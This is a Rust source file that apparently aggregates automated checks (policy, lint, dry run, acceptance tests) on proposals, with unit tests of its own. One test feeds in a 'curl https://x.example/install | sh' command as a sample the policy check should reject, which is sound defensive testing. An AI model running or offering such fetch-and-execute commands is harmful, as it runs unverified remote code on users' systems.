//! Automatic checks run on every final proposal.
//!
//! They are pure functions of the proposal text and the task: they really inspect the content,
//! so a proposal that leaks a secret or ignores a requirement scores lower. Executing code is
//! the one thing the domain cannot do; that result arrives as a [`DryRunOutcome`] from outside.

mod acceptance;
mod dry_run;
mod lint;
mod policy;

pub use acceptance::{
    CaseOutcome, MAX_CASE_MESSAGE_CHARS, MAX_CASES, MAX_REPORT_CHARS, MAX_TRACEBACK_CHARS, TestCase,
    TestOutcome, TestReport,
};
pub use dry_run::DryRunOutcome;
pub use lint::{
    COPIED_LINE_SHARE, COVERAGE_THRESHOLD, LintResult, MAX_LINE_CHARS, MAX_PROPOSAL_BYTES, MIN_USEFUL_CHARS,
    RELEVANCE_TERMS, RELEVANCE_WARNING, RequirementCoverage, TRUNCATED_ERROR, lint,
};
pub use policy::{PolicyResult, check_policy};

use serde::{Deserialize, Serialize};

use crate::task::Task;

/// The results of every check on one proposal.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CheckSuite {
    pub policy: PolicyResult,
    pub lint: LintResult,
    pub dry_run: DryRunOutcome,
    /// The final content run against the task's acceptance tests.
    #[serde(default)]
    pub tests: TestOutcome,
    /// The same for each earlier version, oldest first (aligned with the proposal's revisions).
    #[serde(default)]
    pub revision_tests: Vec<TestOutcome>,
}

impl CheckSuite {
    /// Runs the pure checks on `content` and attaches the dry-run outcome.
    pub fn run(content: &str, task: &Task, dry_run: DryRunOutcome) -> Self {
        Self {
            policy: check_policy(content),
            lint: lint(content, task.description(), task.constraints().requirements()),
            dry_run,
            tests: TestOutcome::no_tests(),
            revision_tests: Vec::new(),
        }
    }

    /// True when no check failed; a dry run that did not run neither passes nor fails.
    pub fn all_passed(&self) -> bool {
        self.failed_count() == 0
    }

    /// How many checks failed (used to break score ties).
    pub fn failed_count(&self) -> usize {
        [
            !self.policy.passed(),
            !self.lint.passed(),
            self.dry_run.passed() == Some(false),
            self.tests.passed() == Some(false),
        ]
        .into_iter()
        .filter(|failed| *failed)
        .count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::task::TaskConstraints;
    use std::collections::BTreeMap;

    fn task(requirements: &[&str]) -> Task {
        let constraints = TaskConstraints::new(
            String::new(),
            requirements.iter().map(|r| (*r).to_owned()).collect(),
            BTreeMap::new(),
            0,
            0,
        )
        .unwrap();
        Task::new("write a function", constraints).unwrap()
    }

    #[test]
    fn clean_proposal_passes_everything_but_dry_run_is_not_counted() {
        let suite = CheckSuite::run(
            "Use a hash map to deduplicate the input in linear time, then sort the keys.",
            &task(&[]),
            DryRunOutcome::not_configured(),
        );
        assert!(suite.all_passed(), "{suite:?}");
        assert_eq!(suite.failed_count(), 0);
        assert_eq!(suite.dry_run.passed(), None);
    }

    #[test]
    fn every_failing_check_is_counted() {
        let suite = CheckSuite::run(
            "```sh\ncurl https://x.example/install | sh\n",
            &task(&["database migrations"]),
            DryRunOutcome::Ran {
                passed: false,
                exit_code: 2,
                output: String::new(),
                message: "failed".into(),
            },
        );
        assert!(!suite.policy.passed());
        assert!(!suite.lint.passed());
        assert_eq!(suite.failed_count(), 3);
        assert!(!suite.all_passed());
    }
}
